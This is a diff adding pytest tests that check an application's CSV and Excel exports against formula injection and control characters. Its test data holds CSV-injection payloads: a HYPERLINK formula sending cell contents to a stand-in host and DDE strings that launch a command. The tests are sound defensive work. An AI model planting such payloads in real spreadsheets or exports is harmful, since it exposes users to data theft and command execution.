@@ -432,3 +432,61 @@ def test_error_report_can_be_written_as_csv(tmp_path: Path) -> None:
             ["zeile", "spalte", "wert", "fehler"],
             ["2", "email", "x@@y", "keine gültige E-Mail-Adresse"],
         ]
+
+
+FORMULAS = ['=HYPERLINK("http://boese.example/?"&A1,"Klick")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_exports_never_write_a_formula_and_round_trip_the_value(
+    session: Session, region: Region, model: ProcessModel, tmp_path: Path, suffix: str
+) -> None:
+    """Issue 20 (finding 9, OWASP CSV injection): formula-like names are written as text."""
+    from openpyxl import load_workbook
+
+    rows = [
+        f'BA-10{n},"{value.replace(chr(34), chr(34) * 2)}",-Anna,1990,,,96047,entitled,2026-09-01,,,,,,,,'
+        for n, value in enumerate(FORMULAS)
+    ]
+    run_import(session, write(tmp_path / "f.csv", [HEADER, *rows]), region, model)
+    path = tmp_path / f"export{suffix}"
+    export_participants(session=session, region=region, model=model, path=path)
+    if suffix == ".csv":
+        cells = [
+            cell for record in csv.reader(path.read_text("utf-8-sig").splitlines(), delimiter=";") for cell in record
+        ]
+    else:
+        workbook = load_workbook(path)
+        sheet = workbook.worksheets[0]
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+        cells = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    assert "'" + FORMULAS[0] in cells and "'-Anna" in cells
+    for participant in session.exec(select(Participant)).all():
+        session.delete(participant)
+    session.commit()
+    run_import(session, path, region, model)  # the export is re-importable and gives back the value
+    names = {p.last_name for p in session.exec(select(Participant)).all()}
+    assert names == set(FORMULAS)
+    assert {p.first_name for p in session.exec(select(Participant)).all()} == {"-Anna"}
+
+
+def test_a_control_character_is_refused_at_import_and_never_breaks_an_export(
+    session: Session, region: Region, model: ProcessModel, tmp_path: Path
+) -> None:
+    """Issue 20 (finding 9): `Erika\\x07` made the whole region's .xlsx export fail."""
+    bad = ROWS[1].replace("Olena", "Olena\x07")
+    with pytest.raises(TableError) as info:
+        run_import(session, write(tmp_path / "c.csv", [HEADER, ROWS[0], bad]), region, model)
+    session.rollback()
+    assert "Zeile 3, Spalte „vorname“: Steuerzeichen 0x07 nicht erlaubt" in str(info.value)
+    assert count(session, Participant) == 0
+    run_import(session, write(tmp_path / "ok.csv", [HEADER, ROWS[1]]), region, model)
+    olena = session.exec(select(Participant)).one()
+    olena.first_name = "Erika\x07"  # stored by an older version or another way in
+    session.add(olena)
+    session.commit()
+    for suffix in (".xlsx", ".csv"):
+        path = tmp_path / f"export{suffix}"
+        assert export_participants(session=session, region=region, model=model, path=path) == 1
+    assert "Erika\ufffd" in (tmp_path / "export.csv").read_text("utf-8-sig")
